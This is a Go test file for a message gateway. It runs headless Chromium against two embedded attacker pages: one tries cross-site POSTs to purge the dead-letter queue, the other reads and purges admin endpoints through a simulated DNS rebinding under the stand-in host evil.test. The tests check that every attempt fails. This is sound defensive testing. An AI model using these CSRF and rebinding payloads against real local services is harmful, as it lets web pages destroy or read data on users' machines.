package gateway

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"testing"

	"github.com/ferrymq/ferry/internal/testkit"
	"github.com/ferrymq/ferry/protocols/message"
	"github.com/ferrymq/ferry/spool"
)

// browserData is the stored form of the dead letters in TestBrowserAttacks;
// the API serves their payload base64-encoded (browserMark): a page that
// shows that has read a dead letter.
var (
	browserPayload = []byte("dead-letter-payload-5309")
	browserData    = message.Encode(nil, &message.Message{Topic: "sensors/x", Payload: browserPayload})
	browserMark    = base64.StdEncoding.EncodeToString(browserPayload)
)

// csrfPage runs on another localhost origin and tries to purge the DLQ of
// the gateway at GW in every way a page can send a POST, then to read the
// dead letters, and posts what it saw to /report.
const csrfPage = `<!doctype html><title>csrf</title><iframe name=sink></iframe><script>
const gw = "GW", purge = gw + "/api/spool/dlq/purge?all=1", out = {};
async function attempt(name, f) { try { out[name] = await f(); } catch (e) { out[name] = "error: " + e; } }
(async () => {
  await attempt("nocors_post", async () => (await fetch(purge, {method: "POST", mode: "no-cors"})).type);
  await attempt("nocors_text", async () => (await fetch(purge, {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: "[]"})).type);
  await attempt("cors_header", async () => (await fetch(purge, {method: "POST", headers: {"Ferry-Admin": "1"}})).status);
  await attempt("cors_json", async () => (await fetch(purge, {method: "POST", headers: {"Content-Type": "application/json"}, body: "[]"})).status);
  await attempt("form", () => new Promise(done => {
    const f = document.createElement("form");
    f.method = "POST"; f.action = purge; f.target = "sink";
    document.body.appendChild(f);
    document.querySelector("iframe").onload = () => done("submitted");
    setTimeout(() => done("no load event"), 5000);
    f.submit();
  }));
  await attempt("read_dlq", async () => await (await fetch(gw + "/api/spool/dlq")).text());
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
})();
</script>`

// rebindPage is served as http://evil.test:PORT/, a name the browser
// resolves to 127.0.0.1; what it fetches from its own origin goes to the
// gateway with Host: evil.test:PORT, as after a DNS rebinding. /legit/ is
// the harness's control: the same requests with the gateway's own Host.
const rebindPage = `<!doctype html><title>rebind</title><script>
const out = {};
async function attempt(name, f) { try { out[name] = await f(); } catch (e) { out[name] = "error: " + e; } }
async function show(r) { return r.status + " " + await r.text(); }
(async () => {
  await attempt("control", async () => show(await fetch("/legit/api/spool/dlq")));
  for (const p of ["/api/spool/dlq", "/api/spool/stats", "/api/status", "/metrics", "/"]) {
    await attempt("read " + p, async () => show(await fetch(p)));
  }
  await attempt("purge", async () => show(await fetch("/api/spool/dlq/purge?all=1", {method: "POST", headers: {"Ferry-Admin": "1"}})));
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
})();
</script>`

// TestBrowserAttacks loads pages in a real headless Chromium that try to
// purge the dead-letter queue from another localhost origin (CSRF) and to
// read and purge it after a DNS rebinding; nothing may be purged or read.
// The rebinding is played by the attacker's server: it serves the page as
// evil.test and forwards the page's requests to the gateway unchanged,
// which is what the gateway sees once the attacker's name resolves to
// 127.0.0.1.
func TestBrowserAttacks(t *testing.T) {
	if testing.Short() {
		t.Skip("runs Chromium")
	}
	chromium := requireChromium(t)
	logs := &logBuf{}
	cfg := e2eConfig(t, "tcp://127.0.0.1:1", "")
	g, err := New(cfg, Options{Logger: slog.New(slog.NewTextHandler(io.MultiWriter(logs, &testWriter{t: t}), nil))})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- g.Run(ctx) }()
	t.Cleanup(func() {
		cancel()
		select {
		case <-done:
		case <-testkit.After(testkit.DefaultWait):
			t.Error("hang guard: gateway did not stop")
		}
	})
	testkit.Wait(t, "the gateway to be ready", g.Ready)
	sp := g.Spool()
	deadLetters(t, sp, 3)
	gwAddr := g.HTTPAddr()
	gw := "http://" + gwAddr

	reports := make(chan map[string]any, 4)
	report := func(w http.ResponseWriter, r *http.Request) {
		var m map[string]any
		if err := json.NewDecoder(r.Body).Decode(&m); err != nil {
			t.Errorf("report: %v", err)
		}
		reports <- m
	}
	attacker := serveTest(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/report":
			report(w, r)
		case "/csrf.html":
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, strings.ReplaceAll(csrfPage, "GW", gw))
		default:
			http.NotFound(w, r)
		}
	}))
	target, _ := url.Parse(gw)
	forward := &httputil.ReverseProxy{Rewrite: func(pr *httputil.ProxyRequest) {
		pr.SetURL(target)
		if p, ok := strings.CutPrefix(pr.In.URL.Path, "/legit"); ok {
			pr.Out.URL.Path = p
			pr.Out.Host = gwAddr
			pr.Out.Header.Del("Origin")
			return
		}
		pr.Out.Host = pr.In.Host // the rebound name, as the browser sent it
	}}
	rebinder := serveTest(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/report":
			report(w, r)
		case "/rebind.html":
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, rebindPage)
		default:
			forward.ServeHTTP(w, r)
		}
	}))
	_, attackerPort, _ := net.SplitHostPort(attacker)
	_, rebindPort, _ := net.SplitHostPort(rebinder)

	t.Run("csrf", func(t *testing.T) {
		seen := runChromium(t, chromium, "http://localhost:"+attackerPort+"/csrf.html", reports)
		if s := fmt.Sprint(seen["read_dlq"]); strings.Contains(s, browserMark) {
			t.Errorf("the page read a dead letter: %s", s)
		}
		if n := sp.Stats().DLQMessages; n != 3 {
			t.Fatalf("a page from another origin purged the DLQ: %d dead letters left of 3", n)
		}
		if l := logs.String(); !strings.Contains(l, `msg="http request refused"`) || !strings.Contains(l, "path=/api/spool/dlq/purge") {
			t.Errorf("the refused purges are not in the log:\n%s", l)
		}
	})
	t.Run("rebinding", func(t *testing.T) {
		if n := sp.Stats().DLQMessages; n < 3 { // the csrf attack succeeded
			deadLetters(t, sp, 3-int(n))
		}
		seen := runChromium(t, chromium, "http://evil.test:"+rebindPort+"/rebind.html", reports)
		if s := fmt.Sprint(seen["control"]); !strings.HasPrefix(s, "200 ") || !strings.Contains(s, browserMark) {
			t.Fatalf("control: the harness does not reach the gateway's DLQ with its own Host: %s", s)
		}
		for k, v := range seen {
			if k == "control" {
				continue
			}
			if s := fmt.Sprint(v); strings.Contains(s, browserMark) || strings.HasPrefix(s, "200 ") {
				t.Errorf("%s through the rebound name: %.200s", k, s)
			}
		}
		if n := sp.Stats().DLQMessages; n != 3 {
			t.Fatalf("a rebinding page purged the DLQ: %d dead letters left of 3", n)
		}
	})
}

// deadLetters dead-letters n messages of browserData.
func deadLetters(t *testing.T, sp *spool.Spool, n int) {
	t.Helper()
	ctx := context.Background()
	for range n {
		if _, err := sp.Put(ctx, spool.Entry{Data: browserData}); err != nil {
			t.Fatal(err)
		}
	}
	var ids []uint64
	testkit.Wait(t, "the messages to be leased", func() bool {
		items, err := sp.Lease(ctx, n)
		if err != nil {
			t.Fatal(err)
		}
		for _, it := range items {
			ids = append(ids, it.ID)
		}
		return len(ids) == n
	})
	for _, id := range ids {
		if err := sp.DeadLetter(ctx, id, "poison: test"); err != nil {
			t.Fatal(err)
		}
	}
}

// serveTest serves h on a free loopback port until the test ends and
// returns its address.
func serveTest(t *testing.T, h http.Handler) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: h}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return ln.Addr().String()
}

// requireChromium returns the chromium binary; it skips the test without
// one, or fails it when CI=true.
func requireChromium(t *testing.T) string {
	t.Helper()
	bin, err := exec.LookPath("chromium")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("chromium is not installed (CI=true): apt-get install chromium")
		}
		t.Skip("chromium is not installed (apt-get install chromium)")
	}
	return bin
}

// runChromium opens url in a fresh headless Chromium that resolves
// evil.test to 127.0.0.1, with more flags if given, and returns the page's
// report.
func runChromium(t *testing.T, bin, url string, reports <-chan map[string]any, flags ...string) map[string]any {
	t.Helper()
	out := &logBuf{}
	args := append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--no-first-run", "--user-data-dir=" + t.TempDir(),
		"--host-resolver-rules=MAP evil.test 127.0.0.1"}, flags...)
	cmd := exec.Command(bin, append(args, url)...)
	cmd.Stdout, cmd.Stderr = out, out
	// Its own process group, so that the renderers it starts go with it.
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	exited := make(chan error, 1)
	go func() { exited <- cmd.Wait() }()
	defer func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		<-exited
	}()
	select {
	case m := <-reports:
		t.Logf("page %s saw: %v", url, m)
		return m
	case err := <-exited:
		t.Fatalf("chromium exited before the page reported: %v\n%s", err, out)
	case <-testkit.After(testkit.DefaultWait):
		t.Fatalf("hang guard: no report from %s after %v\n%s", url, testkit.Timeout(testkit.DefaultWait), out)
	}
	return nil
}
